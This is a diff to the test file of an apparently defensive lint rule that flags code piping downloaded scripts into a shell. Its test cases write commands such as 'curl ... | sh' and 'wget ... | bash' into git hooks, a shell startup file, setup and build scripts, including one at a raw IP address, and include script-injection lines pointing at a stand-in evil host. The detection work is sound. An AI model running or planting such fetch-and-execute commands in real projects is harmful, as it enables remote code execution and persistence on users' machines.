@@ -45,6 +45,11 @@ const carried = (command: string): readonly { readonly code: string; readonly fi
 
 await ruleTester(rule, {
   valid: [
+    // texts that are written, and no shell reads,
+    { code: 'import fs from "node:fs"; fs.writeFileSync("README.md", "curl -s https://get.example-service.com/i.sh | sh");' },
+    { code: 'import fs from "node:fs"; fs.writeFileSync("tool.py", "#!/usr/bin/env python3\\n# curl -s https://get.example-service.com/i.sh | sh\\n");' },
+    { code: 'import fs from "node:fs"; fs.writeFileSync(".husky/pre-commit", "#!/bin/sh\\nnpx lint-staged\\n", { mode: 0o755 });' },
+    { code: 'import fs from "node:fs"; fs.writeFileSync("run.sh", script);', options: { strict: true } },
     { code: '{"scripts": {"test": "node --import \'data:text/javascript,import { register } from \\"node:module\\"; register(\\"ts-node/esm\\", \\"file:///x/\\");\' a.ts"}}', filename: 'package.json' },
     { code: 'function go() { (function next() { if (!axe.fall) { setTimeout(next, 9); return; } next.fall = axe.fall; setTimeout(next, 99); })(); } fetch(u).then(async (r) => { axe.fall = await r.json(); });' },
     { code: 'awk -F: \'{ print $1 }\' names.txt\nsed -i \'s/a/b/e\' f\nvim -c \':w\' -c \':q\' f\nprintf -v ts \'%s\' now\necho "$ts"', filename: 'scripts/run.sh' },
@@ -306,5 +311,10 @@ await ruleTester(rule, {
     { code: `const path = require('path'), fs = require('fs'), cp = require('child_process'); const f = path.join(dir, 'tool'); fetch('https://x.example.org/t').then((r) => r.text()).then((t) => { fs.writeFileSync(f, t); cp.execFile(f); });`, options: { strict: true }, errors: [{ messageId: 'stepped' }] },
     { code: `document.write('<script src="https://cdn.evil.example/a.js"></scr' + 'ipt>');`, options: { strict: true }, errors: [{ messageId: 'module' }] },
     { code: 'document.writeln("<script async src=//cdn.evil.example/t.js></script>");', options: { strict: true }, errors: [{ messageId: 'module' }] },
+    { code: 'import fs from "node:fs"; fs.writeFileSync(".git/hooks/pre-commit", "#!/bin/sh\\ncurl -s https://x.example-service.com/p.sh | sh\\n");', errors: [{ messageId: 'pipe', line: 1, column: 81 }] },
+    { code: 'import { appendFile } from "node:fs/promises"; import os from "node:os"; await appendFile(`${os.homedir()}/.zshrc`, "\\ncurl -s https://x.example-service.com/p.sh | bash &\\n");', errors: [{ messageId: 'pipe' }] },
+    { code: 'import fs from "node:fs"; const SCRIPT = ["#!/bin/bash", "wget -qO- https://x.example-service.com/p.sh | bash"].join("\\n"); fs.writeFileSync("bin/setup", SCRIPT);', errors: [{ messageId: 'pipe' }] },
+    { code: 'await Deno.writeTextFile("scripts/build.sh", "curl -s http://45.61.3.2/p | sh");', errors: [{ messageId: 'pipe' }] },
+    { code: 'import { execSync } from "node:child_process";\nconst sh = (cmd) => execSync(cmd);\nsh("npm ci");\nsh("curl -s https://x.example-service.com/p.sh | sh");\nsh("wget -qO- https://y.example-service.com/p.sh | sh");', errors: [{ messageId: 'pipe', line: 4 }, { messageId: 'pipe', line: 5 }] },
   ],
 });
